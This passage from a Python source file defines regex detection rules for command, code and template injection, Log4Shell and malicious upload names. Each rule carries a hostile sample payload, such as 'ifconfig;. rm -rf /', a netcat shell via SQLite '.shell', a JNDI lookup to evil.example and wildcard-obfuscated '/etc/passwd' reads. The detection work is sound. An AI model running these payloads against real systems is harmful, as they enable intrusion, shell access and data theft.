        r"^\s*(?:nohup|sudo|time|strace|ltrace)\s+(?:" + _STRONG_COMMANDS + r"|who)\s*$|"
        r"^\s*['\"]?(?:whoami|ifconfig|ipconfig|visudo|systeminfo|ansible(?:-[a-z]+)?|chef-[a-z]+|"
        r"cscli|irb|pipx)['\"]?(?:\s+[\w.-]+)*['\"]?\s*$|"
        r"^\s*(?:(?:sudo|nohup|time|env)\s+)*(?:curl|wget|ping|nslookup|dig|ncat|nc|ssh|telnet|"
        r"ftp|tftp)\s+(?:-\S+\s+)*(?:[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}\b|localhost\b)|"
        r"^\s*['\"]?(?:(?:sudo|nohup|time|env)['\"]?\s+)*(?:ksh|csh|tcsh|bash|sh|zsh|busybox)\s+-c\s|"
        r"^\s*(?:c89|c99|gcc|cc)\s+-wrapper\b|^\s*(?:env|perf|set)\s+(?:--version|-o\s+\w+)|"
        r"^\s*['\"]?(?:ll|ls|la|dir|tree)['\"]?\s+(?:-\w+\s+)*/(?:var|etc|home|root|usr|opt|tmp|"
        r"proc|srv)\b|^\s*kill\s+-(?:\d+|[a-z]+)\s*$|"
        r"^\s*(?:flock|cpulimit|nice|ionice|stdbuf|setsid|chroot|timeout|watch|doas)\s[^;|&\n]{0,40}"
        r"\s(?:whoami|ifconfig|ipconfig|uname|id)\s*$",
        "nohup ifconfig",
        "time for bed",
    ),
    Rule(
        # a value that starts by ending the expected argument and running a command:
        # `;lastlog -u root`, `&& rmt --version`, `| top`
        "rce-leading-separator",
        "rce",
        ANYWHERE,
        r"^\s*['\"]?\s*(?:(?:;|&&|\|\||\n)\s*)+(?:['\"]\s*)?(?:(?:sudo|nohup|time|env|strace|"
        r"timeout\s+\d+)\s+)*(?:/?(?:usr/)?s?bin/)?(?:"
        + _STRONG_COMMANDS
        + r"|"
        + _WORD_COMMANDS
        + r"|"
        + _SHELL_EXTRAS
        + r")['\"]?(?:\s|$|[;|&<>`'\")])|"
        # a single pipe also opens Markdown table rows (`| date | amount |`)
        r"^\s*['\"]?\s*\|\s*(?:" + _STRONG_COMMANDS + r"|" + _SHELL_EXTRAS + r")['\"]?"
        r"(?:\s*$|\s+-{1,2}\w|\s+/|\s*[;&<>`])",
        ";lastlog -u root",
        "; and so on",
    ),
    Rule(
        # an editor, pager or debugger told to run a shell command: `vim -c:!id`,
        # `gdb -nx -ex '!whoami'`, `:silent !pwd`
        "rce-editor-shell-escape",
        "rce",
        ANYWHERE,
        r"\b(?:vim?|ex|rvim|view|gdb|less|more|man|ftp)\s+(?:[^\n;|&]{0,40}\s)?(?:-c\s*:?|"
        r"-ex\s+|\+?silent(?:\\\\|\s)*)['\"]?\\*!\s*[a-z/]",
        "vim -c:\\!pwd",
        "view -c more! today",
    ),
    Rule(
        # cmd.exe batch control flow: `for %v in (set) do ...`, `if /i "%1"=="x" ...`
        "rce-windows-batch",
        "rce",
        ANYWHERE,
        r"\bfor\s+(?:/[a-z]\s+)*%%?~?\w+\s+in\s*\([^)]{0,80}\)\s*do\b|"
        r"^\s*if(?:\s*/i)?\s+(?:not\s+)?(?:cmdextversion\s+\d|[\"\[{]?%~?\w+%?[\"\]}]?\s*==|"
        r"\"[^\"]{0,40}\"\s*==\s*\"|[\w.]+==[\w.]+\s+\w)",
        "for %variable in (set) do command",
        "for each item in (the list) do it",
    ),
    Rule(
        # paths spelled with shell wildcards so that no file name is written out:
        # `/[?]tc/pa[?]swd`, `/et*/*wd`, `/etc/[m-z]asswd`, `/usr/[a-z]in/bash`
        "rce-glob-path",
        "rce",
        ANYWHERE,
        r"(?:^|[\s=+;|&'\"`(])/[a-z]{0,4}(?:" + _GLOB_CLASS + r"|\?|\*)[a-z?*\[\]]{0,6}/"
        r"[\w.?*\[\]-]*(?:[a-z]|\?|\*|\])|"
        r"(?:^|[\s=+;|&'\"`(])/[a-z]{0,4}" + _GLOB_CLASS + r"[a-z]{1,6}(?:$|[\s;|&])|"
        r"(?:^|[\s=+;|&'\"`(])/(?:etc|bin|sbin|usr|var|tmp|dev|proc|sys|home|root|opt)/"
        r"(?:[\w.-]+/)*[\w.-]*(?:" + _GLOB_CLASS + r"|\?|\*[a-z])[\w.?*\[\]-]*",
        "cat /[?]tc/pa[?]swd",
        "see /[lang]/docs, /tmp/*.log and /api/items?page=2",
    ),
    Rule(
        # shell definitions that rename or chain commands: `alias -p x=id`,
        # `f(){ f|f& };f`, `a=nc&&$a -nlvp 555`, `c=cat;$c /etc/x`
        "rce-shell-definitions",
        "rce",
        ANYWHERE,
        r"^\s*alias\s+(?:[-+][\w+]+\s+)*['\"]?[\w.-]+['\"]?\s*=|"
        r"\b\w+\s*\(\s*\)\s*\{\s*\w+(?:\s*\(\s*\))?\s*[|&]\s*\w+(?:\s*\(\s*\))?\s*[&;]?\s*;?\s*\}|"
        r"(?:^|[;&|\s])\w+=[^\s;&|]{1,40}\s*(?:;|&&|\|\|)\s*(?:\w+=[^\s;&|]{0,40}\s*(?:;|&&|"
        r"\|\|)\s*)*\$\{?\w+\}?(?:\s+[-/\w$]|\$|\s*$)|"
        r"(?:^|[;&|])\s*\$\{?\w+\}?\s+(?:" + _STRONG_COMMANDS + r")\b",
        "a=nc&&$a -nlvp 555",
        "a=1 and $b dollars",
    ),
    Rule(
        # SQLite shell dot-commands after a statement: `;.shell nc ...`, `1;.system id`
        "rce-sqlite-dot-command",
        "rce",
        ANYWHERE,
        r";\s*(?:\\n|\n)?\s*\.\s*(?:\\?['\"])?(?:shell|system|sh|databases|tables|import|output|"
        r"once|load|dump|read)\b",
        ";\\n.shell nc 10.0.0.1 6666 -e sh",
        "done;. Then the shell game",
    ),
    Rule(
        # an empty command substitution glued to a word: the shell drops it, a
        # signature does not (`ping$() 127.0.0.1`, `pi<()ng`, `wh``oami`)
        "rce-empty-substitution",
        "rce",
        ANYWHERE,
        r"[a-z](?:\$\(\s*\)|[<>]\(\s*\))(?:[a-z]|\s+[\w./-])|[a-z]``[a-z]",
        "ping$() 127.0.0.1",
        "costs $() nothing",
    ),
    Rule(
        # shell expansions with no use outside a shell: `$[2+2]`, `$(( ))`, `${`id`}`,
        # `${PATH#x}`, `>(tee log)`, `find / -exec cmd {}`, `cd /; ...`
        "rce-shell-expansion",
        "rce",
        ANYWHERE,
        r"\$\[\s*(?:\d+\s*[-+*/%]\s*\d+)?\s*\]|\$\(\(|\$\{[^}\s]{0,20}[`#][^}]{0,20}\}|"
        r"(?:^|[\s;|&])[<>]\(\s*[a-z]\w*(?:\s+[\w./-]+)*\s*\)|"
        r"\bfind\s+\S+\s+(?:-\w+\s+\S+\s+)*-exec(?:dir)?\s+\S+[^;]{0,60}\{\}|"
        r"(?:^|[;&|])\s*cd\s+/+\s*(?:;|&&|\|\|)|\bcd\s+/?etc/?\s*(?:;|&&|\|\|)",
        "find /etc -name passwd -exec cat {}",
        "find the price of $[0].items",
    ),
    Rule(
        # a value that is a program path under a bin directory, or a reconnaissance
        # command followed by a separator and more: `bin/visudo`, `ifconfig;. rm -rf /`
        "rce-command-head",
        "rce",
        VALUES | NAMES,
        r"^\s*/?(?:usr/(?:local/)?)?s?bin/(?:"
        + _STRONG_COMMANDS
        + r"|"
        + _SHELL_EXTRAS
        + r"|chef|cscli|ansible)\b|^\s*(?:whoami|ifconfig|ipconfig|uname|id|pwd|hostname|"
        r"netstat|systeminfo|printenv)\s*(?:;|&&|\|\|?)\s*\S|"
        r"^\s*[&\\](?:" + _STRONG_COMMANDS + r"|" + _SHELL_EXTRAS + r")(?:\s|$)|"
        r"/(?:tcp|udp)/\d{1,3}(?:\.\d{1,3}){3}/\d{1,5}\b",
        "ifconfig;. rm -rf /",
        "identity; it matters &copy; 2024",
    ),
    Rule(
        "rce-unix-binary",
        "rce",
        ANYWHERE,
        r"(?:^|[;&|`\s(=])/(?:usr/)?s?bin/(?:" + _STRONG_COMMANDS + r")\b",
        ";/bin/cat x",
        "/binary/catalog",
    ),
    Rule(
        "rce-server-side-include",
        "rce",
        ANYWHERE,
        r"<!--\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv|set|if)\b",
        '<!--#exec cmd="ls" -->',
        "<!-- a comment -->",
    ),
    # --- code injection (PHP, Node.js, Python, Ruby, Perl) -----------------------------
    Rule(
        "rce-php-tag",
        "rce",
        ANYWHERE,
        r"<\?(?:php\s|=)|\[[/\\]?php\]|<\?\s+(?:php\b|echo|print|system|eval|exec|include|"
        r"require|\$\w)|\{/?php\}|<\?\s*$|"
        # `<?xml` that no name follows is not a declaration: a short open tag
        r"<\?xml\s*[:;($\x22']",
        "<?php echo 1; ?>",
        "a <? b",
    ),
    Rule(
        "rce-php-function",
        "rce",
        ANYWHERE,
        r"\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|"
        r"create_function|call_user_func(?:_array)?|preg_replace|array_map|array_filter|"
        r"usort|uasort|register_shutdown_function|file_put_contents|fputs|fwrite|fputcsv|"
        r"base64_decode|gzinflate|gzuncompress|str_rot13|highlight_file|show_source|"
        r"php_uname|getenv|get_defined_functions|get_defined_vars|ini_set|ini_get|putenv|"
        r"mail|unserialize|move_uploaded_file|readfile|file_get_contents|fopen|"
        r"include(?:_once)?|require(?:_once)?|eval|exec|strip_tags|substr|chr|parse_str|"
        r"extract|hex2bin|bin2hex|urldecode|rawurldecode|htmlspecialchars_decode|"
        r"array_walk|ob_start|escapeshellarg|escapeshellcmd|symlink|chmod|unlink|"
        r"opendir|scandir|glob|simplexml_load_string|dl|curl_exec|fsockopen)\s*"
        r"(?:/\*.*?\*/\s*)*\(\s*(?:\$|['\"]|\w+\s*\(|\[|@)",
        "system('id')",
        "the system (of things)",
    ),
    Rule(
        "rce-php-builtin-call",
        "rce",
        ANYWHERE,
        r"\b(?:phpinfo|base64_decode|base64_encode|call_user_func(?:_array)?|gzdecode|gzinflate|"
        r"gzuncompress|str_rot13|pfsockopen|fsockopen|curl_init|curl_exec|print_r|var_dump|"
        r"var_export|file_exists|file_get_contents|file_put_contents|shell_exec|proc_open|"
        r"proc_nice|pcntl_exec|posix_\w+|array_map|array_diff\w*|array_filter|array_walk|"
        r"create_function|get_defined_\w+|gethostbyname\w*|ini_(?:set|get|restore)|"
        r"set_error_handler|register_shutdown_function|move_uploaded_file|highlight_file|"
        r"show_source|php_uname|phpversion|fopen|fwrite|fputs|readfile|unserialize|"
        r"preg_replace\w*|assert_options|chroot|symlink|chmod|unlink|filegroup|fileowner|"
        r"vsprintf|passthru|popen|include_once|require_once|func_get_args|parse_str|ob_start|"
        r"getenv|putenv|escapeshell(?:arg|cmd))"
        # a call is closed: `name(` alone is a word with a bracket, not code that runs
        r"(?:\s|/\*.*?\*/|//[^\n]*\n|#[^\n]*\n)*\([^)]*\)",
        "phpinfo()",
        "the info (see below)",
    ),
    Rule(
        # a PHP command function hidden from simple signatures: a comment between the
        # name and its parentheses, a quoted or parenthesised name, or the whole value
        # being one call: `exec/**/(x)`, `"system"(ls);`, `(system)(id)`, `system(id)`
        "rce-php-exec-evasion",
        "rce",
        ANYWHERE,
        r"\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|eval|"
        r"create_function|call_user_func|file|readfile|include|require)(?:\s*(?:/\*.*?\*/|"
        r"#[^\n]*\n|//[^\n]*\n))+\s*\(|"
        r"['\"](?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|"
        r"phpinfo|create_function)['\"]\s*\(|"
        r"\(\s*(?:/\*.*?\*/\s*)*(?:system|exec|passthru|shell_exec|popen|assert|"
        r"phpinfo)\s*(?:/\*.*?\*/\s*)*\)\s*\(|"
        r"^\s*(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec|exec)\s*\(\s*"
        r"[\w\s.,/$'\"-]{0,60}\)\s*;?\s*$|"
        r"\b[a-z_]\w*\s*(?:/\*[^*]{0,40}\*/|#[^\n]{0,40}\n|//[^\n]{0,40}\n|\x0b+)\s*\(\s*"
        r"[\w$'\")]|"
        r"(?:call_user_func(?:_array)?|p?fsockopen|gzdecode|gzinflate|gzuncompress|bzdecompress|"
        r"zlib_decode|shell_exec|proc_open|pcntl_exec|base64_decode|str_rot13|create_function|"
        r"assert_options)\s*=?\s*\(",
        "exec/*comment*/(x)",
        "the system (see below)",
    ),
    Rule(
        # PHP variable variables and names built from pieces, then called:
        # `$ {'_VAR'.'IABLE'}`, `${'ff'}`, `(sy.(st).em)('uname')`, `$__[$_[1]](7)`
        "rce-php-dynamic-name",
        "rce",
        ANYWHERE,
        r"\$\s+\{\s*['\"$\w]|\$\{\s*['\"]\w+['\"]\s*(?:\.\s*['\"]\w+['\"]\s*)*\}|"
        r"\(\s*\w{1,8}\s*\.\s*\(?\s*\w{1,8}\s*\)?\s*(?:\.\s*\(?\s*\w{1,8}\s*\)?\s*)+\)\s*\(|"
        r"\$_+\s*\[\s*\$_+\s*\[",
        "$ {'_VAR'.'IABLE_NAME'}",
        "costs $ 5 {approx}",
    ),
    Rule(
        # the whole value is one call of a PHP function, the probe that tests whether
        # input reaches `eval` (`chr(123)`, `strrev( )`, `ldap_get_entries()`)
        "rce-php-call-probe",
        "rce",
        VALUES | NAMES,
        r"^\s*(?:chr|ord|printf|sprintf|vsprintf|intval|crypt|strrev|str_repeat|is_array|"
        r"strip_tags|hex2bin|bin2hex|var_dump|print_r|var_export|phpinfo|phpversion|"
        r"php_uname|getcwd|getenv|get_current_user|highlight_file|show_source|file|"
        r"readfile|file_get_contents|scandir|glob|touch|unlink|serialize|unserialize|"
        r"checkdate|range|pi|array_map|usort|ucfirst|strtoupper|str_replace|preg_match)\s*"
        r"\(\s*[\w\s'\"$.,]{0,40}\)\s*;?\s*$|"
        r"^\s*[a-z][a-z0-9]*(?:_[a-z0-9]+){2,}\s*\(\s*\)?\s*$",
        "strrev( )",
        "rev (2)",
    ),
    Rule(
        # a JavaScript loop that never ends, sent for a server to evaluate (denial of
        # service in node): `while(!0);`, `while(Infinity);`
        "rce-node-infinite-loop",
        "rce",
        ANYWHERE,
        r"^\s*(?:for\s*\(\s*;\s*;\s*\)|while\s*\(\s*\(*\s*(?:!+\s*(?:[-+]?0|''|\"\"|``|null|"
        r"undefined|nan)|!!\s*(?:true|\d+|\{\s*\}|\[\s*\]|''|\"\"|``)|[-+]?(?:[1-9]\d*|"
        r"infinity)|true|this|string|object|array|new\s+\w+)\s*\)*)\s*(?:;|\{\s*\})?\s*$",
        "while(!0);",
        "while (the loop runs)",
    ),
    Rule(
        "rce-php-variable-call",
        "rce",
        ANYWHERE,
        r"\$\s*(?:[a-z_][\w$@'\\\"]*|\{[^}]{1,40}\})\s*(?:\[[^\]]{1,40}\]\s*|\{[^}]{1,40}\}\s*|/\*.*?\*/\s*|"
        r"#[^\n]*\n\s*|//[^\n]*\n\s*|->\s*\$\w+\s*)*\(|['\"][\w\\]*\\x[0-9a-f]{2}[\w\\]*['\"]\s*\(|"
        r"['\"][a-z]{1,8}['\"](?:\s*\.\s*['\"][a-z]{1,8}['\"])+\s*[\])]*\s*(?:\[\d\]\s*)*[;(]|"
        r"\)\s*(?:\[\s*\d+\s*\]\s*)+\(\s*['\"]",
        "$a(1)",
        "costs $5 (approx)",
    ),
    Rule(
        "rce-php-superglobal",
        "rce",
        ANYWHERE,
        r"\$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$globals\s*\[|"
        r"\$\{\s*['\"]?_(?:get|post|request|cookie|server)|\$\{\s*['\"_\w.]+\s*\}\s*\(|"
        r"\$\w+\s*\(\s*['\"$]|\$\{@?\$\w+\}\s*\(",
        "$_GET['cmd']",
        "price $5 each",
    ),
    Rule(
        # a parameter named after a PHP superglobal: register_globals-style overwriting
        # (`$_COOKIE=...`, `_SERVER[DOCUMENT_ROOT]=http://...`)
        "rce-php-superglobal-name",
        "rce",
        NAMES,
        r"^\s*(?:\$_(?:get|post|request|cookie|server|files|env|session)\b|\$globals\b|"
        r"_(?:get|post|request|cookie|server|files|env|session)\s*\[)",
        "$_COOKIE",
        "_session_id",
    ),
    Rule(
        "rce-php-callable",
        "rce",
        ANYWHERE,
        r"\(\s*(?:\(\s*string\s*\)\s*)?['\"]?\s*(?:system|exec|passthru|shell_exec|assert|eval|"
        r"phpinfo|popen|proc_open|readfile|file_get_contents|base64_decode|sys['\"]?\s*\.\s*"
        r"['\"]?tem)\s*['\"]?\s*\)\s*\(|\[\s*(?:system|exec|passthru|shell_exec|assert|phpinfo)"
        r"\s*\]|\(\s*string\s*\)\s*['\"](?:system|exec|passthru|assert)['\"]|['\"]\s*\.\s*"
        r"['\"](?:tem|ec|em|sthru)['\"]\s*;",
        "('system')('id')",
        "(system) works",
    ),
    Rule(
        "rce-php-config",
        "rce",
        ANYWHERE,
        r"\b(?:allow_url_(?:fopen|include)|auto_(?:append|prepend)_file|disable_functions|"
        r"open_basedir|safe_mode|suhosin\.[\w.]+|register_globals|"
        r"(?:mbstring|pcre|zend|opcache|session|unserialize)[._][\w.]+|"
        r"enable_dl|file_uploads|upload_tmp_dir|user_ini\.\w+|sendmail_path|extension_dir|"
        r"memory_limit|max_execution_time|include_path|error_log|display_errors|"
        r"short_open_tag|expose_php|mail\.\w+|doc_root|cgi\.\w+|phar\.\w+)\s*=",
        "allow_url_include=1",
        "allow url include",
    ),
    Rule(
        "rce-php-object",
        "rce",
        ANYWHERE,
        r"\b[oc]:\+?\d+:\"[\w\\]+\":\+?\d+:\{",
        'O:8:"stdClass":1:{s:1:"a";i:1;}',
        "O:8 is a time",
    ),
    Rule(
        # PHP run from a string: `${@print(...)}` interpolation, and code spelled out
        # with chr() so that no signature sees its words: chr(115).chr(121)...
        "rce-php-string-code",
        "rce",
        ANYWHERE,
        r"\$\{\s*@?\s*(?:print|eval|system|assert|phpinfo|exec|passthru|die|echo|"
        r"shell_exec|include|require|file_put_contents)\s*\(|"
        r"\bchr\s*\(\s*\d+\s*\)\s*\.\s*chr\s*\(\s*\d+\s*\)",
        "${@print(md5(1))}",
        "${price} (print it)",
    ),
    Rule(
        "rce-php-session-file",
        "rce",
        ANYWHERE,
        r"(?:[/\\]tmp[/\\]|temp[/\\])sess_[\w-]{6,}",
        "/tmp/sess_abc123def",
        "session.php docs",
    ),
    Rule(
        "rce-upload-session-name",
        "rce",
        frozenset({AREA_FILENAME}),
        r"^\s*sess_[\w,-]{6,}\s*$",
        "sess_d8ew88tqmabdcokhumchy8htqm",
        "session_notes.txt",
    ),
    Rule(
        "rce-upload-script",
        "rce",
        frozenset({AREA_FILENAME}),
        r"\.\s*(?:php\d?|phtml|pht|phar|phpt|phps|jsp|jspx|jspf|asp|aspx|asa|cer|shtml|cgi|"
        r"htaccess|user\.ini)\s*\.?\s*(?:$|\x00)|"
        r"\.(?:php\d*|phtml|pht|phar|jspx?|jspf|aspx?)\.{2,}\s*$|"
        r"\.\s*(?:php\d?|phtml|pht|phar|jsp|asp|aspx)"
        r"\s*\.\s*(?:jpe?g|png|gif|bmp|txt|pdf|docx?)\s*$",
        "shell.php.jpg",
        "photo.jpg",
    ),
    Rule(
        # an upload named like a file that configures the server or a tool when it
        # lands in a home or web root: WordPress settings and its backups, shell and
        # package-manager dotfiles, cloud credentials
        "rce-upload-config-file",
        "rce",
        frozenset({AREA_FILENAME}),
        r"^\s*(?:wp-config\b|\.(?:bashrc|bash_profile|profile|zshrc|netrc|npmrc|pypirc|boto|"
        r"gitconfig|git-credentials|s3cfg|dockercfg|pgpass|my\.cnf|ssh|aws|kube)\b)",
        "wp-config-php.bak",
        "my-config.php.bak",
    ),
    Rule(
        "rce-node-injection",
        "rce",
        ANYWHERE,
        r"_\$\$nd_func\$\$_|\b__js_function\b|"
        r"['\"]\$[0-9a-f]{1,8}:(?:[\w$]+:){0,4}(?:constructor|prototype|__proto__)\b|\brequire\s*\(\s*['\"`](?:child_process|fs|net|vm|os|http)['\"`]\s*\)|"
        r"\bchild_process\b|\bprocess\s*\.\s*(?:mainmodule|binding|dlopen|kill|exit)\b|"
        r"\bglobal\s*\.\s*process\b|\.constructor\s*\(\s*['\"`]return\b|"
        r"\bprocess\s*\[\s*['\"`]?(?:env|mainmodule|binding|req|\w+\s*\.)|\brequire\s*\.\s*main\b|"
        r"\.constructor\s*\.\s*_load\b|\bmodule\s*\.\s*exports\s*=|\bprocess\s*\.\s*spawn\s*\(|"
        r"\bnew\s+function\s*\(|\bthis\.constructor\.constructor\b|"
        r"\b(?:execsync|spawnsync|exec(?:file)?)\s*\(\s*['\"`]|"
        r"\bwhile\s*\(\s*(?:!0|!false|true|1)\s*\)|\bfor\s*\(\s*;\s*;\s*\)|"
        r"^\s*process\s*\.\s*env\b\s*(?:\.\s*\w+\s*)?$|"
        r"^\s*console\s*(?:\.\s*\w+|\[\s*['\"`]\w+['\"`]\s*\])\s*(?:\.\s*(?:call|apply|bind)\s*)?"
        r"\([^)]{0,40}\)\s*;?\s*$|\brequire\s*\[\s*\w",
        "require('child_process').exec('id')",
        "required process",
    ),
    Rule(
        # the value's first quote closes a string and a self-calling function follows:
        # server-side JavaScript evaluated from a string (`x' (function(){ ... }()) '`);
        # script text opens its strings (`"use strict";(function(){`)
        "rce-node-iife-breakout",
        "rce",
        VALUES | NAMES,
        r"^[^'\x22`]{0,200}['\x22`]\s*[;+,)|&]*\s*\(\s*function\s*\(\s*\)\s*\{",
        "x' (function(){while(1){}}()) '",
        "a (function() is fine)",
    ),
    Rule(
        "rce-prototype-pollution",
        "rce",
        ANYWHERE,
        r"__proto__|\bconstructor\s*['\"]?\s*\]?\s*(?:\[\s*['\"]?|\.)\s*prototype\b",
        "__proto__[admin]=1",
        "the prototype of a constructor",
    ),
    Rule(
        "rce-python-injection",
        "rce",
        ANYWHERE,
        r"__import__\s*\(|\bos\s*\.\s*(?:system|popen|exec\w*|spawn\w*)\s*\(|"
        r"\bsubprocess\s*\.\s*\w+\s*\(|__(?:class|mro|bases|base|subclasses|globals|builtins|"
        r"init|getattribute|reduce)__\b.*__|\bpickle\.loads\s*\(|\bexec\s*\(\s*compile\s*\(|"
        r"\beval\s*\(\s*(?:compile|__import__|chr\s*\(|base64|bytes)",
        "__import__('os').system('id')",
        "import os",
    ),
    Rule(
        "rce-ruby-injection",
        "rce",
        ANYWHERE,
        r"\bkernel\s*\.\s*(?:exec|system|spawn|open)\b|%x\s*[(\[{]|\bio\s*\.\s*popen\b|"
        r"\bopen3\s*\.|\bsyscall\s*\(|\binstance_eval\b|\bclass_eval\b",
        "Kernel.exec('id')",
        "kernel panic",
    ),
    Rule(
        "rce-perl-injection",
        "rce",
        ANYWHERE,
        r"@\{\s*\[|\bqx\s*[({\[/]|\bsystem\s*\(?\s*['\"](?:" + _STRONG_COMMANDS + r")\b",
        "@{[system 'id']}",
        "mail me @ {x}",
    ),
    # --- Java / exploits -----------------------------------------------------------
    Rule(
        "rce-java-runtime",
        "rce",
        ANYWHERE,
        r"\b(?:java\.lang\.(?:runtime|processbuilder|processimpl|reflect|classloader|thread|"
        r"system\s*\.\s*(?:exit|getenv|getproperty|setproperty))|runtime\s*\.\s*getruntime|"
        r"getruntime\s*\(\s*\)\s*\.\s*exec|new\s+processbuilder|\.getclass\s*\(\s*\)\s*\."
        r"(?:forname|getclassloader|getmethod|getdeclaredmethod)|class\.forname\s*\(|"
        r"javax\.script\.scriptenginemanager|\.getscriptengine\w*\s*\(|"
        r"org\.apache\.commons\.collections\d?\.functors|"
        r"(?:invoker|chained|constant|instantiate|clone|prototypeclone|prototypeserialization|"
        r"instantiatefactory)transformer|forclosure|whileclosure|instantiatefactory|"
        r"prototypeclonefactory|prototypeserializationfactory|templatesimpl|"
        r"com\.sun\.org\.apache\.xalan|com\.sun\.rowset\.jdbcrowsetimpl|"
        r"com\.mchange\.v2\.c3p0|org\.springframework\.beans\.factory|"
        r"org\.codehaus\.groovy\.runtime|bsh\.interpreter|ognl\.ognlcontext|"
        r"#_memberaccess|@ognl\.|#context\[|xwork\.methodaccessor|"
        r"com\.opensymphony\.xwork2|java\.beans\.xmldecoder|org\.omg\.corba|"
        r"java\.rmi\.|javax\.naming\.|javax\.management\.|sun\.misc\.|sun\.reflect\.|"
        r"jdk\.internal\.|com\.sun\.jndi\.)",
        "java.lang.Runtime",
        "the runtime of the film",
    ),
    Rule(
        "rce-java-class-value",
        "rce",
        VALUES | NAMES,
        r"(?:^\s*|[>\"'=]\s*)(?:java|javax|jdk|sun|com\.sun|org\.apache|org\.springframework|"
        r"org\.codehaus|org\.hibernate|com\.fasterxml|com\.alibaba|org\.omg|org\.mozilla|"
        r"groovy|bsh|ognl)\.[a-z][\w$]*(?:\.[\w$]+)*\s*(?:$|[<\"'&;])",
        "java.io.ObjectInputStream",
        "I like java. really",
    ),
    Rule(
        "rce-java-autotype",
        "rce",
        VALUES | NAMES,
        r"[\"']@type[\"']\s*:\s*[\"'][\w$]+\.[\w$.]+|[\"']@class[\"']\s*:\s*[\"'](?:java|javax|"
        r"org|com)\.",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
        "@type is a field",
    ),
    Rule(
        "rce-java-deserialization",
        "rce",
        VALUES | NAMES,
        r"(?:^|[^a-z0-9+/])ro0ab|\baced0005|\xac\xed\x00\x05|(?-i:KztAAU|Cs7QAF)|"
        r"(?-i:H4sIAAAAAAAA/?[0-9a-zA-Z+/]{0,4}rO0)",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "produces robots",
    ),
    Rule(
        "rce-java-el",
        "ssti",
        ANYWHERE,
        r"\bt\s*\(\s*java\.[\w.]+\s*\)|\$\{[^}]{0,120}(?:getclass|forname|getruntime|"
        r"classloader|processbuilder|\.exec\s*\()|#\{[^}]{0,120}(?:getclass|forname|"
        r"getruntime|classloader|processbuilder)",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "T(java) coffee",
    ),
    Rule(
        "rce-spring4shell",
        "rce",
        ANYWHERE,
        r"\bclass\s*(?:\.|\[\s*['\"]?)\s*(?:module\s*(?:\.|['\"]?\s*\]\s*\[?\s*['\"]?)\s*)?"
        r"classloader\b|\bclass\.module\.|\.getclassloader\b",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "class module loader",
    ),
    Rule(
        "rce-log4shell",
        "rce",
        ANYWHERE,
        r"\$\{\s*(?:jndi|j\}|\$\{[^}]{0,40}\}\s*n|ctx|env|sys|java|main|base64|bundle|docker|"
        r"k8s|log4j|lower|upper|marker|sd|spring|web|date|event|map|::-)\s*:",
        "${jndi:ldap://evil.example/a}",
        "${HOME}/bin",
    ),
    Rule(
        # a lookup whose brace is an HTML entity or an escaped ampersand that a later
        # decoder turns back into `{`: `$&lbrace;jndi:`, `$\u0026lbrace`
        "rce-log4shell-entity",
        "rce",
        ANYWHERE,
        r"\$(?:&|\\u0026|&amp;)(?:lbrace|lcub|#0*123|#x0*7b);?",
        "$&lbracejndi:ldap://evil.example/a}",
        "costs $& more",
    ),
    Rule(
        "rce-jndi-url",
        "rce",
        ANYWHERE,
        r"\bjndi\s*:\s*(?:ldap|ldaps|rmi|dns|iiop|corba|nds|nis|http)s?\s*:",
        "jndi:ldap://x.example/a",
        "jndi lookups are",
    ),
    # --- template injection -------------------------------------------------------------
    Rule(
        "ssti-expression",
        "ssti",
        ANYWHERE,
        r"\{\{\s*[\d\s]+[*/+-]\s*[\d\s]+\}\}|\$\{\s*\d+\s*[*/+-]\s*\d+\s*\}|"
        r"#\{\s*\d+\s*[*/+-]\s*\d+\s*\}|<%=?\s*\d+\s*[*/+-]\s*\d+\s*%>|"
        r"\{\{=?\s*\d+\s*[*/+-]\s*['\"]?\d+['\"]?\s*\}\}|\[\[\s*\d+\s*\*\s*\d+\s*\]\]|"
        r"@\(\s*\d+\s*[*+/-]\s*\d+\s*\)|\{\s*\d+\s*\*\s*\d+\s*\}\}|"
        r"\{\{\s*['\"]\d+['\"]\s*[*+]\s*\d+\s*\}\}|[*@~]\{\s*\d+\s*[*/+-]\s*\d+\s*\}",
        "{{7*7}}",
        "{{ name }}",
    ),
    Rule(
        "ssti-object-walk",
        "ssti",
        ANYWHERE,
        r"\{\{[^}]{0,200}(?:__class__|__globals__|__builtins__|__subclasses__|__mro__|"
        r"__init__|_self\s*\.\s*env|config\s*\.\s*items|request\s*\.\s*application|lipsum|"
        r"cycler|joiner|self\s*\._|\|\s*attr\s*\(|getattribute|popen|\[\s*['\"]__)|"
        r"\{%\s*(?:import|include|set|for|if|print|debug|macro|raw|extends)\b[^%]{0,200}"
        r"(?:__|popen|system|os\.|config)|\{\{\s*(?:config|self|settings|request)\s*\}\}|"
        r"\{\{\s*['\"]\s*['\"]\s*\.",
        "{{''.__class__.__mro__[1]}}",
        "{{ user.name }}",
    ),
    Rule(
        "ssti-engine-syntax",
        "ssti",
        ANYWHERE,
        r"<#assign\b|<#(?:if|list|include|import)\b[^>]*\?(?:new|eval|api)|\?new\s*\(\s*\)|"
        r"freemarker\.template\.utility|#set\s*\(\s*\$\w+|\$class\.inspect|"
        r"#foreach\s*\(|\{php\}|\{system\s*\(|\{\s*\$smarty\.|__\$\{[^}]+\}__|"
        r"\{\{\s*_self\b|\{\{\s*constructor\b|\{\{\s*range\s*\.|#\{\s*['\"]?\s*\w+\s*['\"]?\s*"
        r"\.\s*(?:class|getclass)",
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        "#set up",
    ),
    Rule(
        # a template's own control statement with its end tag: Jinja/Twig/Liquid
        # `{% if %}...{% endif %}`, ERB/EJS `<% if %>...<% end %>`
        "ssti-template-statement",
        "ssti",
        ANYWHERE,
        r"\{%-?\s*(?:if|for|set|with|macro|block|filter|call|raw|unless|case|capture)\b[^%]{0,200}%\}"
